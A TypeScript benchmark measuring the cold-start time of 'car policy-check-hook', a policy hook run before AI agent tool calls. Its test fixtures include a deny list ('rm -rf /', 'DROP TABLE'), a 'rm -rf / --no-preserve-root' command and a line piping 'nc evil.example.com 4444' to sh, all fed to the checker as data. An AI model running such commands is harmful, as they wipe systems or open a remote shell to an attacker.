/**
 * Cold start of `car policy-check-hook`, the command an editor runs before
 * every tool call, against the floor of starting Node at all (`node -e 0`).
 * Goal: ≤ 1.3× that floor.
 *
 * Builds the CLI (`dist/`), then spawns each case in interleaved rounds so
 * background load hits every case alike, and reports wall-clock medians and
 * minimums as ratios of the baseline measured in the same run, plus the CPU
 * time (user + sys) each spawn consumed — read from this process's reaped
 * children counters in /proc, so it holds up on a busy machine where wall
 * time does not.
 *
 *   npm run bench              # 40 rounds
 *   npm run bench -- 100       # more rounds
 */
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const cliDir = fileURLToPath(new URL("..", import.meta.url));
const carBin = join(cliDir, "dist", "car.cjs");
const carMjs = join(cliDir, "dist", "car.mjs");
const hookCjs = join(cliDir, "dist", "hook.cjs");
const rounds = Number(process.argv[2] ?? 40);

console.log("building dist/ with tsdown …");
execFileSync("npx", ["tsdown", "--log-level", "warn"], { cwd: cliDir, stdio: "inherit" });

const root = mkdtempSync(join(tmpdir(), "car-bench-"));
const repo = join(root, "repo");
mkdirSync(join(repo, ".git"), { recursive: true });
mkdirSync(join(repo, ".car", "policies"), { recursive: true });
mkdirSync(join(repo, "src", "deep"), { recursive: true });
mkdirSync(join(root, "home"));
writeFileSync(
  join(repo, ".car", "policies", "rules.toml"),
  'deny_tool = ["WebFetch"]\ndeny_keyword = ["rm -rf /", "DROP TABLE"]\n[[allow_tool_param]]\ntool = "deploy"\nparam = "env"\nallow = ["staging"]\n',
);
const payload = (command: string) =>
  JSON.stringify({
    session_id: "bench",
    transcript_path: "/dev/null",
    cwd: join(repo, "src", "deep"),
    permission_mode: "default",
    hook_event_name: "PreToolUse",
    tool_name: "Bash",
    tool_input: { command, description: "bench" },
    tool_use_id: "toolu_bench",
  });

interface Case {
  name: string;
  args: string[];
  input: string;
}

const cases: Case[] = [
  { name: "node -e 0 (baseline)", args: ["-e", "0"], input: "" },
  { name: "car policy-check-hook (no decision)", args: [carBin, "policy-check-hook"], input: payload("git status && ls -la") },
  { name: "car policy-check-hook (deny)", args: [carBin, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
  { name: "car policy-check-hook (ask)", args: [carBin, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
  // The same hook through the ES module entry (what `car init` wrote before the CommonJS bin): the ES module loader's cost.
  // It loads the bundle through the same loader and code cache (src/hook-loader.ts).
  { name: "car.mjs policy-check-hook (no decision)", args: [carMjs, "policy-check-hook"], input: payload("git status && ls -la") },
  { name: "car --version (CLI entry floor)", args: [carBin, "--version"], input: "" },
  // The physical floor of the hook: Node loading and evaluating the hook's one bundle, and doing nothing with it.
  { name: "load dist/hook.cjs only (code floor)", args: ["-e", `require(${JSON.stringify(hookCjs)})`], input: "" },
];

// Warm the page cache and check each case works before timing.
for (const c of cases) {
  const r = spawnSync(process.execPath, c.args, { input: c.input, env: { ...process.env, CAR_HOME: join(root, "home") } });
  if (r.status !== 0) throw new Error(`${c.name} exited ${r.status}: ${r.stderr}`);
}

/** CPU ms used by this process's waited-for children (cutime + cstime), or undefined off Linux. */
function childrenCpuMs(): number | undefined {
  if (!existsSync("/proc/self/stat")) return undefined;
  const stat = readFileSync("/proc/self/stat", "utf8");
  const fields = stat.slice(stat.lastIndexOf(")") + 2).split(" ");
  // Fields 16 and 17 of proc(5), counted from the state field (3): indices 13 and 14 here. USER_HZ is 100.
  return (Number(fields[13]) + Number(fields[14])) * 10;
}

const times = cases.map((): number[] => []);
const cpu = cases.map(() => 0);
for (let i = 0; i < rounds; i++) {
  for (const [k, c] of cases.entries()) {
    const cpuBefore = childrenCpuMs();
    const start = process.hrtime.bigint();
    spawnSync(process.execPath, c.args, { input: c.input, env: { ...process.env, CAR_HOME: join(root, "home") } });
    times[k]!.push(Number(process.hrtime.bigint() - start) / 1e6);
    const cpuAfter = childrenCpuMs();
    if (cpuBefore !== undefined && cpuAfter !== undefined) cpu[k]! += cpuAfter - cpuBefore;
  }
}
rmSync(root, { recursive: true, force: true });

const median = (t: number[]) => [...t].sort((a, b) => a - b)[t.length >> 1]!;
const min = (t: number[]) => Math.min(...t);
const baseMedian = median(times[0]!);
const baseMin = min(times[0]!);
console.log(`\n${rounds} interleaved rounds, node ${process.version}`);
const baseCpu = cpu[0]! / rounds;
console.log(
  `${"case".padEnd(40)} ${"wall median".padStart(12)} ${"ratio".padStart(7)} ${"wall min".padStart(10)} ${"ratio".padStart(7)} ${"cpu/run".padStart(9)} ${"ratio".padStart(7)}`,
);
for (const [k, c] of cases.entries()) {
  const t = times[k]!;
  const perRun = cpu[k]! / rounds;
  console.log(
    `${c.name.padEnd(40)} ${`${median(t).toFixed(1)} ms`.padStart(12)} ${`${(median(t) / baseMedian).toFixed(2)}×`.padStart(7)} ${`${min(t).toFixed(1)} ms`.padStart(10)} ${`${(min(t) / baseMin).toFixed(2)}×`.padStart(7)} ${`${perRun.toFixed(1)} ms`.padStart(9)} ${baseCpu > 0 ? `${(perRun / baseCpu).toFixed(2)}×`.padStart(7) : "".padStart(7)}`,
  );
}
console.log("goal: car policy-check-hook ≤ 1.3× node -e 0");
